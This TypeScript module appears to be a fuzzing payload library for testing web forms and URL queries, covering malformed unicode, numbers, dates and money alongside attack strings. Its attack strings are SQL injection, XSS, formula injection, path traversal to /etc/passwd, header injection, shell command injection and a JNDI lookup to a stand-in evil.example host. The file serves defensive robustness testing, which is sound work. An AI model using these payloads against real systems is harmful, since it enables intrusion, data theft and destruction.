/** What is typed, or sent by a program, into a field. `raw` is percent-encoded already: bytes that no text gives. */
export type Payload = { text: string } | { raw: string };

/** Stands in every payload that tries to become HTML: no page may ever hold it as a tag. */
export const TAG = "<fuzz-tag";

const CONTROL = Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`);

const UNICODE = [
  "\u202Etxt.exe",
  "\u2066left\u2069",
  "\u200B",
  "\uFEFF",
  "\uFFFF",
  "\u0085",
  "\u00A0",
  "\u2028\u2029",
  "e\u0301".repeat(200),
  "Z\u0351\u0343\u0349".repeat(50),
  "שלום עולם",
  "مرحبا",
  "𝟙𝟚𝟛",
  "１２３",
  "٣٤",
  "½",
  "Ⅷ",
  "👩‍👩‍👧‍👦",
  "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "ﬀ",
  "İ",
  "ß".repeat(300),
  "\u{10FFFF}",
  "\u007F",
];

const NUMBERS = [
  "NaN",
  "Infinity",
  "-Infinity",
  "1e309",
  "1e-400",
  "-0",
  "0",
  "-1",
  "00",
  "007",
  "0x10",
  "0b1",
  "0o7",
  "1_000",
  "1e3",
  "1.",
  ".5",
  "1.5",
  "1.005",
  "1,5",
  "+5",
  "--5",
  "5-",
  "9007199254740991",
  "9007199254740992",
  "9007199254740993",
  "2147483648",
  "4294967296",
  "9223372036854775807",
  "9223372036854775808",
  "18446744073709551616",
  "9".repeat(400),
  "0.1".repeat(50),
  "1/0",
  "1 000",
  "1\u00A0000",
  "１０",
];

const MONEY = [
  "£1,000.005",
  "£-1",
  "-£1",
  "(£1,000)",
  "£",
  "£0.00",
  "£0.001",
  "1,00,0",
  "£1.000,00",
  "€5",
  "$5",
  "5p",
  "£1e9",
  "£90,071,992,547,409.91",
  "£90,071,992,547,409.92",
  "£299,998.00.00",
  "about £5",
];

const DATES = [
  "31/02",
  "31/02/2026",
  "2026-02-30",
  "2026-13-01",
  "0000-00-00",
  "29 February 2023",
  "99999",
  "275761",
  "-2026",
  "1e4",
  "2026-11-21T25:61",
  "24:00",
  "Feb",
  "32",
  "13",
  "20 26",
  "tomorrow",
];

const OBJECTS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "__proto__.polluted",
  "constructor.prototype.polluted",
  "[object Object]",
  "{}",
  "[]",
  '{"__proto__":{"polluted":true}}',
  '{"$gt":""}',
  '{"then":1}',
  "null",
  "undefined",
  "true",
  "false",
  "on",
];

const SQL = [
  "'",
  '"',
  "''",
  "';--",
  "' or '1'='1",
  "' union select email, password_hash from person --",
  "1; drop table bid; --",
  "1 or 1=1",
  "1)) or ((1=1",
  "%",
  "_",
  "%%%%%%%%%%%%%%%%",
  "\\",
  "\\'",
  "a%' escape '",
  "$1",
  "?",
  ":id",
  "@@version",
  "1 limit 1 offset 9",
  "pg_sleep(9)",
  "randomblob(1000000000)",
  "'||(select 1)||'",
  "\\x00",
];

const DOLLAR = "$";

const HTML = [
  `${TAG}>`,
  `${TAG} onload=alert(1)>`,
  `">${TAG} src=x onerror=alert(1)>`,
  `'>${TAG}>`,
  `</textarea>${TAG}>`,
  `</title>${TAG}>`,
  `</script>${TAG}>`,
  `</style>${TAG}>`,
  `<!--${TAG}>-->`,
  `${TAG}`,
  "<script>alert(1)</script>",
  "<svg/onload=alert(1)>",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:x",
  "{{7*7}}",
  `${DOLLAR}{7*7}`,
  "<%= 7*7 %>",
  "#{7*7}",
  "&lt;b&gt;",
  "&#0;",
  "]]>",
  "\u003cb\u003e",
  "onfocus=alert(1) autofocus=",
];

const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example")',
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

const PATHS = [
  "../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/passwd",
  "file:///etc/passwd",
  "....//....//etc/passwd",
  "//evil.example",
  "/\\evil.example",
  "https://evil.example/",
  "https:evil.example",
  "/.//evil.example",
  "/\tevil.example",
  "\\\\evil.example\\share",
  "C:\\",
  ".",
  "..",
  "CON",
  ".git/config",
  "a/b",
  "?a=b",
  "#a",
  "a&b=c",
];

const HEADERS = ["a\r\nSet-Cookie: evil=1", "a\nX: y", "a%0d%0aX: y"];

const SHELL = [
  "; id",
  "$(id)",
  "`id`",
  "| id",
  "&& id",
  `${DOLLAR}{jndi:ldap://evil.example/a}`,
  "%n%n%n%s",
  "{0}",
];

const LENGTHS = ["", " ", "   ", "\n", "\r\n\r\n", "x", "x".repeat(140), "x".repeat(256), "x".repeat(5_000)];

/** Longer than an address can be: only forms are sent these. */
const HUGE = [
  "x".repeat(70_000),
  "£".repeat(100_000),
  "9".repeat(100_000),
  "x".repeat(1_000_000),
  "a\n".repeat(200_000),
];

const RAW = [
  "%ED%A0%80",
  "%ED%BF%BF",
  "a%ED%A0%BDb",
  "%FF",
  "%C0%80",
  "%E0%A4%A",
  "%",
  "%zz",
  "%00",
  "%2500",
  "%u0041",
  "%F5%80%80%80",
  "+++",
  "%26a%3Db",
  "%0d%0aSet-Cookie:%20evil=1",
];

/** The payloads that fit in an address as well as in a form: more than 200. */
export const PAYLOADS: readonly Payload[] = [
  ...[
    ...CONTROL,
    ...UNICODE,
    ...NUMBERS,
    ...MONEY,
    ...DATES,
    ...OBJECTS,
    ...SQL,
    ...HTML,
    ...FORMULAS,
    ...PATHS,
    ...HEADERS,
    ...SHELL,
    ...LENGTHS,
  ].map((text) => ({ text })),
  ...RAW.map((raw) => ({ raw })),
];

export const HUGE_PAYLOADS: readonly Payload[] = HUGE.map((text) => ({ text }));

/** Names under which a field can be sent that are not its own: lists, groups, rows, and ways into an object itself. */
export function oddNames(name: string): string[] {
  return [
    `${name}[]`,
    `${name}[0]`,
    `${name}[a][b]`,
    `${name}.0`,
    `${name}.a`,
    `${name}.0.x`,
    `${name}.999999999`,
    `${name}.-1`,
    `${name}.__proto__`,
    `${name}.constructor.prototype`,
    `${name}.a.b.c.d.e.f.g.h.i.j`,
    `${name}-day`,
    `${name}-day-day`,
    `${name}.length`,
    `lines[0][${name}]`,
    `lines.0.${name}`,
    `lines.0.${name}.0`,
    `__proto__.${name}`,
    `constructor.${name}`,
    `.${name}`,
    `${name}.`,
    "",
    "__proto__",
    "__proto__[]",
    "constructor",
    "then",
    "toString",
    "x".repeat(10_000),
  ];
}

/** A payload as it stands in a form or in the query of an address. */
export function encoded(payload: Payload): string {
  return "raw" in payload ? payload.raw : encodeText(payload.text);
}

export function encodeText(text: string): string {
  return encodeURIComponent(text).replace(/%20/g, "+");
}
